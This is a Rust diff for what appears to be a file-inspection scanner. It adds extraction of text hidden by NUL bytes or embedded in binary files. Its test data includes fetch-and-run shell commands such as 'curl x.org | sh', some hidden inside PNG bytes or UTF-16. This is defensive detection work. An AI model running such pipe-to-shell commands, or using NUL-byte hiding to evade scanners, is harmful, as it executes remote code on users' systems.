@@ -1,4 +1,6 @@
-//! Recognises the type of a file by its first bytes, whatever its name. Pure.
+//! Recognises the type of a file by its bytes, whatever its name, and finds the text in it. Pure.
+
+use std::borrow::Cow;
 
 use super::Severity::{High, Note, Warn};
 use super::finding::Kind;
@@ -31,6 +33,13 @@ const ARCHIVE_NAMES: [&str; 22] = [
     "zip", "gz", "tgz", "7z", "rar", "bz2", "xz", "jar", "whl", "docx", "xlsx", "pptx", "odt",
     "ods", "odp", "epub", "apk", "vsix", "skill", "potx", "dotx", "xltx",
 ];
+
+/// The bytes by which a file's type is recognised.
+pub const HEAD: usize = 512;
+/// Of a text with NUL bytes, at most one byte in this many is part of something else.
+const ODD: usize = 10;
+/// The shortest run of characters that counts as text in a binary file.
+const RUN: usize = 10;
 
 const PROGRAM: Kind = (
     Warn,
@@ -82,6 +91,36 @@ pub fn inspect(path: &str, head: &[u8]) -> Option<Kind> {
     }
 }
 
+/// The text in a file, and whether the file is binary. NUL bytes are left out, as shells do. Of a
+/// binary file, the text is what `strings` would show.
+pub fn text(bytes: &[u8]) -> (Cow<'_, str>, bool) {
+    if !bytes.contains(&0) {
+        return (String::from_utf8_lossy(bytes), false);
+    }
+    let head = &bytes[..bytes.len().min(HEAD)];
+    let is_program = PROGRAMS.iter().any(|start| bytes.starts_with(start));
+    if !is_program
+        && bare(head).is_some()
+        && let Some(text) = bare(bytes)
+    {
+        return (Cow::Owned(text), false);
+    }
+    let runs = bytes.split(|byte| !matches!(byte, b'\t' | b' '..=b'~'));
+    let runs = runs
+        .filter(|run| run.len() >= RUN)
+        .map(String::from_utf8_lossy);
+    (Cow::Owned(runs.collect::<Vec<_>>().join("\n")), true)
+}
+
+/// The bytes without NUL, if that is a text.
+fn bare(bytes: &[u8]) -> Option<String> {
+    let bare: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
+    let text = String::from_utf8_lossy(&bare).into_owned();
+    let is_odd =
+        |c: &char| *c == char::REPLACEMENT_CHARACTER || c.is_control() && !c.is_whitespace();
+    (text.chars().filter(is_odd).count() * ODD <= text.len()).then_some(text)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -103,6 +142,29 @@ mod tests {
             (".env", b"A=1", Some("secret-file")),
         ] {
             assert_eq!(inspect(path, head).map(|(_, code, _)| code), code, "{path}");
+        }
+    }
+
+    #[test]
+    fn nul_bytes_hide_no_text() {
+        for (bytes, shown, is_binary) in [
+            (&b"a b\n"[..], "a b\n", false),
+            (b"cu\0rl x\0", "curl x", false),
+            (
+                b"\xff\xfec\0u\0r\0l\0 \0x\0 \0|\0 \0s\0h\0 \0y\0 \0z\0a\0b\0c\0d\0e\0",
+                "",
+                false,
+            ),
+            (
+                b"\x89PNG\r\n\x1a\n\0\0\x02\xff\x81curl x.org | sh\0\x01\xfe\x80\0abc",
+                "curl x.org | sh",
+                true,
+            ),
+        ] {
+            let (found, binary) = text(bytes);
+            assert!(found.contains(shown) && !found.contains('\0'), "{found:?}");
+            assert_eq!(binary, is_binary, "{found:?}");
+            assert!(!is_binary || found == shown, "{found:?}");
         }
     }
 }
